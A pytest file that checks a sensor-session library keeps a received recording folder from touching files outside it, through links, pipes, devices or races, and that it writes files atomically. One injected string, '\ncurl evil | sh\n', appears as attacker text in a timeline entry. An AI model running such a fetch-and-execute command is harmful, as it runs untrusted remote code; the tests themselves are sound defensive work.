"""A folder from somebody else: whatever lies in it, no file outside it is read or written."""

import json
import os
import sys
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest

from sensors import files
from sensors.cameras.geometry import EyeGeometry
from sensors.session import files as session
from sensors.session.export import export
from sensors.session.recording import Recording, RecordingWriter
from sensors.session.timeline import EmotionEntry, entry_line
from sensors.types import AudioPacket, EmotionPacket, InputError

MINE = b"alias ls='ls --color'\n"


@pytest.fixture
def mine(tmp_path: Path) -> Path:
    """A file of the user's, outside the session."""
    path = tmp_path / "bashrc"
    path.write_bytes(MINE)
    return path


def sent_session(tmp_path: Path) -> Path:
    """A session as it was sent: not closed, so that opening it repairs it."""
    folder = tmp_path / "sent"
    with RecordingWriter(folder, created="") as writer:
        writer.append(AudioPacket(0, 0, np.zeros(480, np.float32)))
        writer.append(EmotionPacket(0, "\ncurl evil | sh\n"))
    card = json.loads((folder / "session.json").read_text())
    (folder / "session.json").write_text(json.dumps(card | {"closed": False}))
    return folder


@pytest.mark.parametrize("name", ["timeline.jsonl.part", "session.json.part"])
def test_a_repair_writes_through_no_link(tmp_path: Path, mine: Path, name: str) -> None:
    folder = sent_session(tmp_path)
    (folder / name).symlink_to(mine)
    assert session.info(folder)["repaired"]
    assert mine.read_bytes() == MINE


@pytest.mark.parametrize("link", [Path.symlink_to, Path.hardlink_to])
@pytest.mark.parametrize("name", ["timeline.jsonl", "audio.wav"])
def test_a_repair_changes_no_file_that_lies_elsewhere(
    tmp_path: Path, name: str, link: Callable[[Path, Path], None]
) -> None:
    folder, elsewhere = sent_session(tmp_path), tmp_path / "elsewhere"
    (folder / name).rename(elsewhere)
    with elsewhere.open("ab") as file:
        file.write(b"\1\2\3")  # what a repair would cut off
    before = elsewhere.read_bytes()
    link(folder / name, elsewhere)
    with pytest.raises(InputError, match="got a (hard )?link"):
        Recording(folder)
    assert elsewhere.read_bytes() == before


@pytest.mark.parametrize("name", ["session.json", "timeline.jsonl", "audio.wav", "eye_left.mkv"])
def test_a_session_is_read_through_no_link(tmp_path: Path, name: str) -> None:
    from material import image

    from sensors.types import EyePacket

    folder = tmp_path / "sent"
    with RecordingWriter(folder, created="") as writer:
        writer.append(AudioPacket(0, 0, np.zeros(480, np.float32)))
        writer.append(EyePacket(0, 0, 0, image(0)))
    (folder / name).rename(tmp_path / name)
    (folder / name).symlink_to(tmp_path / name)
    with pytest.raises(InputError, match="got a link"):
        Recording(folder)


def test_a_pipe_is_refused_and_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "session.json")
    with pytest.raises(InputError, match="got a pipe"):
        Recording(tmp_path)
    with pytest.raises(InputError, match="got a pipe"):
        files.write_text(tmp_path / "session.json", "")
    with pytest.raises(InputError, match="got a folder"):
        files.read_bytes(tmp_path)
    with pytest.raises(InputError, match="device"):
        files.create(Path("/dev/null"))
    assert Path("/dev/null").is_char_device()


def test_an_export_and_a_profile_are_written_through_no_link(tmp_path: Path, mine: Path) -> None:
    folder = sent_session(tmp_path)
    for name in ("out.mkv", "profile.json"):
        (folder / name).symlink_to(mine)
    with pytest.raises(InputError, match="got a link"):
        export(folder, folder / "out.mkv")
    with pytest.raises(InputError, match="got a link"):
        EyeGeometry(name="x").save(folder / "profile.json")
    assert mine.read_bytes() == MINE


def test_a_file_is_replaced_whole_or_not_at_all(tmp_path: Path) -> None:
    path = tmp_path / "card.json"
    files.write_text(path, "old", private=True)
    assert path.stat().st_mode & 0o777 == 0o600
    with pytest.raises(OSError, match="full"), files.replacing(path) as draft:
        draft.write_text("ha")
        raise OSError("full")
    assert path.read_text() == "old" and list(tmp_path.iterdir()) == [path]
    files.write_bytes(path, "ü".encode())
    assert files.read_text(path) == "ü" and list(tmp_path.iterdir()) == [path]


def test_a_second_name_of_a_file_keeps_what_it_had(tmp_path: Path, mine: Path) -> None:
    for write in (lambda path: files.create(path).write_bytes(b"new"), replace_with_new):
        path = tmp_path / "out"
        path.hardlink_to(mine)
        write(path)
        assert path.read_bytes() == b"new" and mine.read_bytes() == MINE
        path.unlink()


def replace_with_new(path: Path) -> None:
    files.write_bytes(path, b"new")


def test_a_link_put_there_between_the_look_and_the_opening_is_refused(
    tmp_path: Path, mine: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "x").symlink_to(mine)
    monkeypatch.setattr(files, "check_regular", lambda path: path)
    with pytest.raises(InputError, match="got a link"):
        files.read_bytes(tmp_path / "x")
    with pytest.raises(InputError, match="got a link"):
        files.open_regular(tmp_path / "x", update=True)


def test_an_attackers_words_are_one_line_of_json() -> None:
    assert entry_line(EmotionEntry(0, "\ncurl evil | sh\n")).count(b"\n") == 1


@pytest.mark.skipif(sys.platform != "linux", reason="a folder of the kernel")
def test_a_folder_that_takes_no_files_is_told() -> None:
    """Red before: "expected a file or folder /proc/x.png, got none; check the path"."""
    for write in (files.create, lambda path: files.write_text(path, "x")):
        with pytest.raises(InputError, match="/proc: expected a folder that takes new files"):
            write(Path("/proc/x.png"))
